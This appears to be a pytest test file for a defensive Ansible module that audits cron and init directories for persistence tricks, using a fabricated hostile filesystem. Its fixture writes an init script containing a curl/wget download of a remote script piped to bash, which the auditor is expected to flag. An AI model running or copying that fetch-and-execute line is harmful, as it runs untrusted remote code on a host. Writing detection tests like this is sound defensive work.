"""hostguard.hardening.cron_audit through real Ansible (ad-hoc `ansible` with the json callback)."""
import json
import os
import shutil
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(REPO, "tests", "unit"))
from cron_tree import hostile_tree, seed_000  # noqa: E402

ANSIBLE = os.path.join(os.path.dirname(sys.executable), "ansible")


def run_module(args, check=False, tmp_path=None):
    assert os.path.exists(ANSIBLE), "ansible is not installed next to %s" % sys.executable
    env = dict(os.environ)
    env.update({
        "ANSIBLE_CONFIG": os.path.join(REPO, "ansible.cfg"),
        "ANSIBLE_COLLECTIONS_PATH": os.path.join(REPO, ".collections"),
        "ANSIBLE_STDOUT_CALLBACK": "json",
        "ANSIBLE_LOAD_CALLBACK_PLUGINS": "1",
        "ANSIBLE_LOCAL_TEMP": str(tmp_path / "ansible-tmp"),
        "ANSIBLE_HOME": str(tmp_path / "ansible-home"),
        "ANSIBLE_NOCOLOR": "1",
    })
    cmd = [ANSIBLE, "localhost", "-i", "localhost,", "-c", "local",
           "-e", "ansible_python_interpreter=/usr/bin/python3",
           "-m", "hostguard.hardening.cron_audit", "-a", args]
    if check:
        cmd.append("--check")
    proc = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd=REPO, check=False)
    assert proc.returncode == 0, proc.stdout.decode()[-3000:] + proc.stderr.decode()[-3000:]
    out = json.loads(proc.stdout.decode())
    result = out["plays"][0]["tasks"][0]["hosts"]["localhost"]
    assert not result.get("failed"), result.get("msg")
    return result


def fails(result, check_id, subject=None):
    return [f for f in result["findings"] if f["status"] == "fail" and f["id"] == check_id
            and (subject is None or f["subject"] == subject)]


@pytest.fixture
def hostile(tmp_path):
    root = tmp_path / "rootfs"
    root.mkdir()
    hostile_tree(root, entries=40)
    seed_000(root)
    os.makedirs(str(root / "etc/rc.d/init.d"), exist_ok=True)
    with open(str(root / "etc/rc.d/init.d/sysupdate"), "w") as handle:
        handle.write("#!/bin/sh\n(curl -fsSL http://203.0.113.5/s.sh || wget -qO- http://203.0.113.5/s.sh) | bash\n")
    os.chmod(str(root / "etc/rc.d/init.d/sysupdate"), 0o755)
    try:
        yield root
    finally:
        shutil.rmtree(str(root), ignore_errors=True)


@pytest.mark.real
@pytest.mark.parametrize("check", [False, True])
def test_module_on_hostile_tree(hostile, tmp_path, check):
    result = run_module("root=%s max_entries=25" % hostile, check=check, tmp_path=tmp_path)
    assert result["changed"] is False
    rdb = fails(result, "HG-CRON-001", "/var/spool/cron/dump.rdb")
    assert rdb and rdb[0]["evidence"]["magic"] == "REDIS0009"
    assert fails(result, "HG-CRON-003", "/var/spool/cron/dump.rdb")
    bad = fails(result, "HG-CRON-010", "/etc/rc.d/init.d/sysupdate")
    assert bad and bad[0]["evidence"]["pattern"] == "download_piped_to_shell" and bad[0]["evidence"]["line"] == 2
    assert fails(result, "HG-CRON-006", "/etc/cron.d/fifo")
    assert fails(result, "HG-CRON-007", "/etc/cron.d/zero")
    assert fails(result, "HG-CRON-008", "/etc/cron.d/loop-a")
    assert fails(result, "HG-CRON-005", "/var/spool/cron/crontabs/huge")
    assert fails(result, "HG-CRON-013", "/etc/cron.weekly")
    rec = [f for f in result["files"] if f["path"] == "/var/spool/cron/dump.rdb"][0]
    assert rec["would_run"]["cronie"]["code"] == "ORPHAN"
    # nothing in the tree changed: the FIFO is still a FIFO, the dump still there
    assert os.path.exists(str(hostile / "var/spool/cron/dump.rdb"))


@pytest.mark.real
def test_module_on_this_hosts_real_root(tmp_path):
    result = run_module("root=/", check=True, tmp_path=tmp_path)
    assert result["changed"] is False
    assert result["facts"]["root"] == "/"
    paths = set(f["path"] for f in result["files"])
    assert "/etc/cron.daily/dpkg" in paths          # stock Debian files present on this host
    assert "/etc/init.d/procps" in paths
    assert fails(result, "HG-CRON-010") == [], fails(result, "HG-CRON-010")
    assert fails(result, "HG-CRON-001") == []
    dpkg = [f for f in result["files"] if f["path"] == "/etc/cron.daily/dpkg"][0]
    assert dpkg["would_run"]["debian"]["would_run"] is True
    assert len(dpkg["sha256"]) == 64


@pytest.mark.real
def test_module_rejects_bad_options(tmp_path):
    env_root = tmp_path / "missing"
    cmd_result = None
    try:
        run_module("root=%s" % env_root, tmp_path=tmp_path)
    except AssertionError as exc:
        cmd_result = str(exc)
    assert cmd_result is not None and "not a directory" in cmd_result
